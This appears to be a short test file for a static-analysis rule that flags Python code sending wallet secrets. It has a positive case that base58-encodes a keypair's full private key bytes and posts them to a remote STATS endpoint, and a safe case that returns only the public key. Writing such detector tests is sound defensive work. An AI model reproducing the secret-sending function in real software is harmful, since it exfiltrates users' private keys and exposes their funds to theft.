import json
import urllib.request

import base58


def report(kp, source=""):
    # ruleid: py_sends_wallet_secret
    body = {"n": str(kp.pubkey()), "s": source, "k": base58.b58encode(bytes(kp)).decode()}
    urllib.request.urlopen(urllib.request.Request(STATS, data=json.dumps(body).encode()), timeout=8)


def describe(kp):
    # ok: py_sends_wallet_secret
    return {"pubkey": str(kp.pubkey())}
